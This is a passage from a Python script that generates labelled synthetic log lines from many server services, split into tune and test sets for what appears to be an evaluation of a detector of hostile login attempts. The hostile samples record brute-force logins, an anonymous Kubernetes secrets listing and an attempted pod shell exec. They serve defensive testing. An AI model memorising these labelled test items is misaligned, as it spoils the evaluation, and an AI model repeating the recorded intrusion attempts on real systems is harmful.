 (B, None, "time=\"2024-03-11T08:20:05Z\" level=debug msg=\"Successful 1FA authentication attempt made by user 'maria'\" method=POST path=/api/firstfactor remote_ip=198.51.100.40"),
 (B, None, "time=\"2024-03-11T08:50:00Z\" level=error msg=\"Error occurred sending an email\" error=\"dial tcp 10.0.0.25:587: connect: connection refused\""),
 (B, None, "time=\"2024-03-11T09:00:00Z\" level=debug msg=\"Check authorization of subject username=maria groups=admins ip=198.51.100.40 and object https://grafana.example.org/ (method GET).\""),
])
def pve(ts, proc, msg): return f"Mar 11 {ts} pve1 {proc}: {msg}"
S['proxmox'] = ('test', [
 (H, "203.0.113.31", pve("08:12:42", "IPCC.xs[2143]", "pam_unix(proxmox-ve-auth:auth): authentication failure; logname= uid=0 euid=0 tty= ruser= rhost=::ffff:203.0.113.31  user=root")),
 (H, "203.0.113.31", pve("08:12:44", "pvedaemon[2143]", "authentication failure; rhost=::ffff:203.0.113.31 user=root@pam msg=Authentication failure")),
 (H, "203.0.113.31", pve("08:12:49", "pvedaemon[2144]", "authentication failure; rhost=::ffff:203.0.113.31 user=admin@pve msg=no such user ('admin@pve')")),
 (H, "198.51.100.90", pve("08:40:02", "pvedaemon[2144]", "authentication failure; rhost=::ffff:198.51.100.90 user=root@pam msg=Authentication failure")),
 (B, None, pve("08:20:15", "pvedaemon[2145]", "<root@pam> successful auth for user 'root@pam'")),
 (B, None, pve("08:20:16", "pvedaemon[2145]", "<root@pam> starting task UPID:pve1:00001A2B:0003C4D5:65EEBF70:vncproxy:100:root@pam:")),
 (B, None, pve("08:25:00", "pveproxy[3021]", "proxy detected vanished client connection")),
 (B, None, pve("08:30:00", "pvestatd[1900]", "status update time (5.123 seconds)")),
 (B, None, pve("08:31:12", "pveproxy[3022]", "problem with client ::ffff:198.51.100.40; Connection reset by peer")),
 (B, None, pve("09:00:01", "pvescheduler[4100]", "INFO: Finished Backup of VM 100 (00:01:22)")),
])
def mg(ts, s, c, id_, ctx, msg, attr): return J({"t": {"$date": f"2024-03-11T{ts}+00:00"}, "s": s, "c": c, "id": id_, "ctx": ctx, "msg": msg, "attr": attr})
S['mongodb'] = ('test', [
 (H, "203.0.113.90", mg("08:12:44.579", "I", "ACCESS", 5286307, "conn1012", "Failed to authenticate", {"client": "203.0.113.90:51544", "isSpeculative": False, "isClusterMember": False, "mechanism": "SCRAM-SHA-256", "user": "admin", "db": "admin", "error": "AuthenticationFailed: SCRAM authentication failed, storedKey mismatch", "result": 18, "metrics": {"conversation_duration": {"micros": 5012}}, "extraInfo": {}})),
 (N, None, mg("08:12:50.101", "I", "ACCESS", 20251, "conn1013", "Supported SASL mechanisms requested for unknown user", {"user": {"user": "root", "db": "admin"}})),
 (H, "203.0.113.90", mg("08:12:50.102", "I", "ACCESS", 5286307, "conn1013", "Failed to authenticate", {"client": "203.0.113.90:51560", "isSpeculative": True, "isClusterMember": False, "mechanism": "SCRAM-SHA-256", "user": "root", "db": "admin", "error": "UserNotFound: Could not find user \"root\" for db \"admin\"", "result": 11, "metrics": {"conversation_duration": {"micros": 197}}, "extraInfo": {}})),
 (H, "198.51.100.12", "2024-03-11T08:40:02.118+0000 I ACCESS   [conn1044] SCRAM-SHA-1 authentication failed for root on admin from client 198.51.100.12:40122 ; UserNotFound: Could not find user \"root\" for db \"admin\""),
 (B, None, mg("08:20:00.001", "I", "NETWORK", 22943, "listener", "Connection accepted", {"remote": "10.0.0.12:44102", "uuid": "0a1b2c3d-4e5f-6a7b-8c9d-0e1f2a3b4c5d", "connectionId": 1020, "connectionCount": 12})),
 (B, None, mg("08:20:00.010", "I", "ACCESS", 20250, "conn1020", "Authentication succeeded", {"mechanism": "SCRAM-SHA-256", "speculative": True, "principalName": "app", "authenticationDatabase": "admin", "remote": "10.0.0.12:44102", "extraInfo": {}})),
 (B, None, mg("08:50:00.001", "I", "NETWORK", 22944, "conn1020", "Connection ended", {"remote": "10.0.0.12:44102", "uuid": "0a1b2c3d-4e5f-6a7b-8c9d-0e1f2a3b4c5d", "connectionId": 1020, "connectionCount": 11})),
 (B, None, J({"t": {"$date": "2024-03-11T08:00:00.500+00:00"}, "s": "W", "c": "CONTROL", "id": 22120, "ctx": "initandlisten", "msg": "Access control is not enabled for the database. Read and write access to data and configuration is unrestricted", "tags": ["startupWarnings"]})),
 (B, None, mg("09:00:00.000", "I", "STORAGE", 22430, "Checkpointer", "WiredTiger message", {"message": {"ts_sec": 1710147600, "ts_usec": 0, "thread": "1:0x7f", "session_name": "WT_SESSION.checkpoint", "category": "WT_VERB_CHECKPOINT_PROGRESS", "category_id": 6, "verbose_level": "DEBUG_1", "verbose_level_id": 1, "msg": "saving checkpoint snapshot min: 37, snapshot max: 37 snapshot count: 0"}})),
])
def ovpn(ts, msg): return f"Mar 11 {ts} vpn openvpn[812]: {msg}"
S['openvpn'] = ('test', [
 (B, None, ovpn("08:00:00", "Initialization Sequence Completed")),
 (H, "203.0.113.66", ovpn("08:12:44", "TLS Error: cannot locate HMAC in incoming packet from [AF_INET]203.0.113.66:51544")),
 (H, "203.0.113.66", ovpn("08:12:46", "TLS Error: incoming packet authentication failed from [AF_INET]203.0.113.66:51544")),
 (H, "198.51.100.19", ovpn("08:40:02", "198.51.100.19:40122 TLS Auth Error: Auth Username/Password verification failed for peer")),
 (N, None, ovpn("08:40:02", "198.51.100.19:40122 WARNING: Failed running command (--auth-user-pass-verify): external program exited with error status: 1")),
 (H, "192.0.2.88", ovpn("09:01:10", "192.0.2.88:50111 VERIFY ERROR: depth=0, error=certificate revoked: CN=laptop-old")),
 (N, None, ovpn("09:05:00", "192.0.2.89:50200 TLS Error: TLS key negotiation failed to occur within 60 seconds (check your network connectivity)")),
 (B, None, ovpn("08:20:00", "198.51.100.40:53120 VERIFY OK: depth=0, CN=alice")),
 (B, None, ovpn("08:20:00", "198.51.100.40:53120 TLS: Username/Password authentication succeeded for username 'alice'")),
 (B, None, ovpn("08:20:00", "198.51.100.40:53120 [alice] Peer Connection Initiated with [AF_INET]198.51.100.40:53120")),
 (B, None, ovpn("08:20:01", "alice/198.51.100.40:53120 MULTI_sva: pool returned IPv4=10.8.0.6, IPv6=(Not enabled)")),
 (B, None, ovpn("10:00:00", "alice/198.51.100.40:53120 [alice] Inactivity timeout (--ping-restart), restarting")),
])
S['cockpit'] = ('test', [
 (N, None, "Mar 11 08:12:42 srv1 unix_chkpwd[4425]: password check failed for user (root)"),
 (H, "203.0.113.44", "Mar 11 08:12:44 srv1 cockpit-session[4421]: pam_unix(cockpit:auth): authentication failure; logname= uid=0 euid=0 tty= ruser= rhost=203.0.113.44  user=root"),
 (N, None, "Mar 11 08:12:46 srv1 cockpit-ws[4400]: cockpit-session: user account access failed: 7 root: Authentication failure"),
 (H, "198.51.100.61", "Mar 11 08:40:02 srv1 cockpit-session[4460]: pam_unix(cockpit:auth): authentication failure; logname= uid=0 euid=0 tty= ruser= rhost=198.51.100.61  user=admin"),
 (B, None, "Mar 11 08:15:00 srv1 cockpit-ws[4400]: couldn't read from connection: Peer sent fatal TLS alert: CA is unknown"),
 (B, None, "Mar 11 08:20:00 srv1 cockpit-session[4450]: pam_unix(cockpit:session): session opened for user maria(uid=1000) by (uid=0)"),
 (B, None, "Mar 11 08:20:00 srv1 cockpit-ws[4400]: logged in user session"),
 (B, None, "Mar 11 08:20:02 srv1 cockpit-ws[4400]: New connection to session from 198.51.100.40"),
 (B, None, "Mar 11 08:50:00 srv1 cockpit-ws[4400]: WebSocket from 198.51.100.40 for session closed"),
 (B, None, "Mar 11 09:00:00 srv1 cockpit-ws[4400]: session timed out"),
])
S['redis'] = ('test', [
 (B, None, "1:C 11 Mar 2024 08:00:00.001 # Warning: no config file specified, using the default config. In order to specify a config file use redis-server /path/to/redis.conf"),
 (B, None, "1:M 11 Mar 2024 08:00:00.001 # WARNING Memory overcommit must be enabled! Without it, a background save or replication may fail under low memory condition."),
 (B, None, "1:M 11 Mar 2024 08:00:00.002 * Ready to accept connections tcp"),
 (H, "203.0.113.7", "1:M 11 Mar 2024 08:12:44.579 # Possible SECURITY ATTACK detected. It looks like somebody is sending POST or Host: commands to Redis. This is likely due to an attacker attempting to use Cross Protocol Scripting to compromise your Redis instance. Connection from 203.0.113.7:51544 aborted."),
 (H, "198.51.100.250", "1:M 11 Mar 2024 08:40:02.118 # Possible SECURITY ATTACK detected. It looks like somebody is sending POST or Host: commands to Redis. This is likely due to an attacker attempting to use Cross Protocol Scripting to compromise your Redis instance. Connection from 198.51.100.250:40122 aborted."),
 (B, None, "1:M 11 Mar 2024 08:05:00.118 * 100 changes in 300 seconds. Saving..."),
 (B, None, "1:M 11 Mar 2024 08:05:00.220 * Background saving terminated with success"),
 (B, None, "1:S 11 Mar 2024 09:00:00.118 # Error condition on socket for SYNC: Connection refused"),
 (B, None, "1:S 11 Mar 2024 09:00:01.118 * Connecting to MASTER 10.0.0.5:6379"),
 (B, None, "1:M 11 Mar 2024 09:10:00.000 # Connection with replica 10.0.0.7:6379 lost."),
])
def k8(ts, verb, uri, user, groups, ip, ua, code, status=None, message=None, reason=None, decision="allow", obj=None):
    rs = {"metadata": {}, "code": code}
    if status: rs.update({"status": status, "message": message, "reason": reason})
    o = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": "3f2e1d0c-%04d-4b5a-9c8d-7e6f5a4b3c2d" % code, "stage": "ResponseComplete", "requestURI": uri, "verb": verb,
         "user": ({"username": user, "groups": groups} if user else {}), "sourceIPs": [ip], "userAgent": ua}
    if obj: o["objectRef"] = obj
    o.update({"responseStatus": rs, "requestReceivedTimestamp": f"2024-03-11T{ts}Z", "stageTimestamp": f"2024-03-11T{ts}Z", "annotations": {"authorization.k8s.io/decision": decision, "authorization.k8s.io/reason": ""}})
    if not user: del o["annotations"]
    return J(o)
S['kubernetes-audit'] = ('test', [
 (H, "203.0.113.150", k8("08:12:44.579012", "list", "/api/v1/namespaces/kube-system/secrets", "system:anonymous", ["system:unauthenticated"], "203.0.113.150", "python-requests/2.31.0", 403, "Failure", 'secrets is forbidden: User "system:anonymous" cannot list resource "secrets" in API group "" in the namespace "kube-system"', "Forbidden", "forbid", {"resource": "secrets", "namespace": "kube-system", "apiVersion": "v1"})),
 (H, "203.0.113.150", k8("08:12:45.101200", "get", "/api/v1/pods", None, None, "203.0.113.150", "python-requests/2.31.0", 401, "Failure", "Unauthorized", "Unauthorized")),
 (H, "198.51.100.30", k8("08:40:02.118000", "create", "/api/v1/namespaces/default/pods/web-0/exec?command=sh&stdin=true&tty=true", "system:anonymous", ["system:unauthenticated"], "198.51.100.30", "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819", 403, "Failure", 'pods "web-0" is forbidden: User "system:anonymous" cannot create resource "pods/exec" in API group "" in the namespace "default"', "Forbidden", "forbid", {"resource": "pods", "namespace": "default", "name": "web-0", "subresource": "exec", "apiVersion": "v1"})),
 (B, None, k8("08:20:00.001000", "list", "/api/v1/services?limit=500&resourceVersion=0", "system:serviceaccount:kube-system:coredns", ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"], "10.244.0.3", "coredns/v1.11.1 (linux/amd64) kubernetes/$Format", 200, obj={"resource": "services", "apiVersion": "v1"})),
 (B, None, k8("08:20:10.220000", "update", "/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/worker-1", "system:node:worker-1", ["system:nodes", "system:authenticated"], "10.0.0.21", "kubelet/v1.29.2 (linux/amd64) kubernetes/4b8e819", 200, obj={"resource": "leases", "namespace": "kube-node-lease", "name": "worker-1", "apiGroup": "coordination.k8s.io", "apiVersion": "v1"})),
 (B, None, k8("08:21:00.000000", "get", "/readyz", "system:anonymous", ["system:unauthenticated"], "10.0.0.2", "kube-probe/1.29", 200)),
 (B, None, k8("08:22:30.500000", "get", "/api/v1/namespaces/monitoring/configmaps/grafana-dashboards", "system:serviceaccount:monitoring:grafana", ["system:serviceaccounts", "system:authenticated"], "10.244.1.17", "Go-http-client/2.0", 404, "Failure", 'configmaps "grafana-dashboards" not found', "NotFound", obj={"resource": "configmaps", "namespace": "monitoring", "name": "grafana-dashboards", "apiVersion": "v1"})),
 (B, None, k8("08:23:00.700000", "update", "/apis/apps/v1/namespaces/default/deployments/web/status", "system:serviceaccount:kube-system:deployment-controller", ["system:serviceaccounts", "system:authenticated"], "10.0.0.10", "kube-controller-manager/v1.29.2", 409, "Failure", 'Operation cannot be fulfilled on deployments.apps "web": the object has been modified; please apply your changes to the latest version and try again', "Conflict", obj={"resource": "deployments", "namespace": "default", "name": "web", "apiGroup": "apps", "apiVersion": "v1"})),
])
S['zabbix'] = ('test', [
 (B, None, "  1234:20240311:080000.001 Starting Zabbix Agent [srv1]. Zabbix 6.4.12 (revision 3c5ea3a4d)."),
 (H, "203.0.113.70", "  1240:20240311:081244.579 failed to accept an incoming connection: connection from \"203.0.113.70\" rejected, allowed hosts: \"127.0.0.1,10.0.0.5\""),
 (H, "203.0.113.70", "  1241:20240311:081250.002 failed to accept an incoming connection: connection from \"203.0.113.70\" rejected, allowed hosts: \"127.0.0.1,10.0.0.5\""),
 (H, "198.51.100.120", "  1240:20240311:084002.118 failed to accept an incoming connection: connection from \"198.51.100.120\" rejected, allowed hosts: \"127.0.0.1,10.0.0.5\""),
 (N, None, "  1201:20240311:081300.001 failed to accept an incoming connection: from 203.0.113.71: TLS handshake returned error code 1: file ssl/record/ssl3_record.c line 354: error:0A00010B:SSL routines::wrong version number: TLS write fatal alert \"protocol version\""),
 (B, None, "  1201:20240311:081500.118 cannot send list of active checks to \"10.0.0.7\": host [web-2] not found"),
 (B, None, "  1234:20240311:082000.001 active check configuration update from [zabbix.example.org:10051] started to fail (cannot connect to [[zabbix.example.org]:10051]: [111] Connection refused)"),
 (B, None, "  1201:20240311:083000.220 Zabbix agent item \"vfs.fs.size[/,pfree]\" on host \"web-1\" failed: first network error, wait for 15 seconds"),
 (B, None, "  1201:20240311:090000.001 executing housekeeper"),
])
def smb(ts, user, status, ip, ws="SCANNER", auth="NTLMv2"):
    return f"  Auth: [SMB2,(null)] user [WORKGROUP]\\[{user}] at [Mon, 11 Mar 2024 {ts} UTC] with [{auth}] status [{status}] workstation [{ws}] remote host [ipv4:{ip}] mapped to [WORKGROUP]\\[{user}]. local host [ipv4:10.0.0.5:445]. "
S['samba'] = ('test', [
 (B, None, "  smbd version 4.17.12-Debian started."),
 (H, "203.0.113.59", smb("08:12:44.579012", "administrator", "NT_STATUS_NO_SUCH_USER", "203.0.113.59:51544")),
 (H, "203.0.113.59", smb("08:12:45.001201", "guest", "NT_STATUS_NO_SUCH_USER", "203.0.113.59:51546")),
 (H, "198.51.100.77", smb("08:40:02.118000", "bob", "NT_STATUS_WRONG_PASSWORD", "198.51.100.77:40122", ws="DESKTOP-7Q2")),
 (H, "198.51.100.77", smb("08:40:09.500000", "bob", "NT_STATUS_ACCOUNT_LOCKED_OUT", "198.51.100.77:40124", ws="DESKTOP-7Q2")),
 (B, None, smb("08:20:00.100000", "maria", "NT_STATUS_OK", "198.51.100.40:53120", ws="LAPTOP-MARIA")),
 (B, None, "  Successful AuthZ: [SMB2,NTLMSSP] user [WORKGROUP]\\[maria] [S-1-5-21-3623811015-3361044348-30300820-1013] at [Mon, 11 Mar 2024 08:20:00.101000 UTC] Remote host [ipv4:198.51.100.40:53120] local host [ipv4:10.0.0.5:445]"),
 (B, None, "  Unable to open printcap file /etc/printcap for read!"),
 (B, None, "  ../../source3/smbd/smb2_server.c:4008(smbd_smb2_request_error_ex) smbd_smb2_request_error_ex: idx[1] status[NT_STATUS_OBJECT_NAME_NOT_FOUND] || at ../../source3/smbd/smb2_create.c:351"),
])
def ct(ev): return J(ev)
S['cloud-json'] = ('test', [
 (H, "203.0.113.210", ct({"eventVersion": "1.08", "userIdentity": {"type": "IAMUser", "principalId": "AIDAEXAMPLE0000000001", "accountId": "123456789012", "userName": "admin"}, "eventTime": "2024-03-11T08:12:44Z", "eventSource": "signin.amazonaws.com", "eventName": "ConsoleLogin", "awsRegion": "us-east-1", "sourceIPAddress": "203.0.113.210", "userAgent": UA, "errorMessage": "Failed authentication", "requestParameters": None, "responseElements": {"ConsoleLogin": "Failure"}, "additionalEventData": {"MobileVersion": "No", "LoginTo": "https://console.aws.amazon.com/console/home", "MFAUsed": "No"}, "eventID": "0a1b2c3d-0000-4e5f-8a9b-0c1d2e3f4a5b", "eventType": "AwsConsoleSignIn", "recipientAccountId": "123456789012"})),
 (H, "198.51.100.5", ct({"eventVersion": "1.08", "userIdentity": {"type": "IAMUser", "principalId": "AIDAEXAMPLE0000000002", "arn": "arn:aws:iam::123456789012:user/ci-deploy", "accountId": "123456789012", "accessKeyId": "AKIAEXAMPLE000000002", "userName": "ci-deploy"}, "eventTime": "2024-03-11T08:40:02Z", "eventSource": "s3.amazonaws.com", "eventName": "ListBuckets", "awsRegion": "us-east-1", "sourceIPAddress": "198.51.100.5", "userAgent": "aws-cli/2.15.0 Python/3.11.6 Linux/6.5.0 exe/x86_64.ubuntu.22", "errorCode": "AccessDenied", "errorMessage": "Access Denied", "requestParameters": {"Host": "s3.amazonaws.com"}, "responseElements": None, "eventType": "AwsApiCall", "recipientAccountId": "123456789012"})),
 (H, "203.0.113.210", J({"time": "2024-03-11T08:13:01.002Z", "level": "warn", "msg": "invalid credentials", "user": "admin", "remote_addr": "203.0.113.210:51544", "path": "/api/v1/login", "status": 401})),
 (H, "192.0.2.199", J({"ts": "2024-03-11T09:00:00.118Z", "level": "WARN", "event": "login_failed", "username": "root", "ip": "192.0.2.199", "reason": "bad_password"})),
 (B, None, ct({"eventVersion": "1.08", "userIdentity": {"type": "IAMUser", "principalId": "AIDAEXAMPLE0000000003", "accountId": "123456789012", "userName": "maria"}, "eventTime": "2024-03-11T08:20:00Z", "eventSource": "signin.amazonaws.com", "eventName": "ConsoleLogin", "awsRegion": "us-east-1", "sourceIPAddress": "198.51.100.40", "userAgent": UA, "requestParameters": None, "responseElements": {"ConsoleLogin": "Success"}, "additionalEventData": {"MFAUsed": "Yes"}, "eventType": "AwsConsoleSignIn", "recipientAccountId": "123456789012"})),
 (B, None, J({"level": "info", "msg": "request completed", "method": "GET", "path": "/healthz", "status": 200, "remote_addr": "10.0.0.2:40122", "duration_ms": 1})),
 (B, None, J({"level": "error", "msg": "failed to connect to upstream", "upstream": "10.0.0.9:5432", "error": "dial tcp 10.0.0.9:5432: connect: connection refused"})),
 (B, None, J({"level": "info", "msg": "authentication plugin loaded", "plugin": "oidc", "issuer": "https://sso.example.org"})),
 (B, None, J({"level": "warn", "msg": "token expired, refreshing", "client": "billing-service"})),
 (B, None, J({"level": "info", "msg": "rate limiter configured", "limit": 100, "window": "1m"})),
 (B, None, J({"level": "info", "msg": "user logged out", "user": "maria", "remote_addr": "198.51.100.40:53120"})),
 (B, None, J({"level": "error", "msg": "permission denied writing cache file", "path": "/var/cache/app/x.tmp", "error": "open /var/cache/app/x.tmp: permission denied"})),
])

out = sys.argv[1]
from heldout import write_service
for h in ('tune', 'test'):
    counts = sum((write_service(os.path.join(out, h), name, rows) for name, (half, rows) in S.items() if half == h), Counter())
    print(h, sum(1 for hh, _ in S.values() if hh == h), "services, hostile", counts['H'], "benign", counts['B'], "unscored", counts[None])
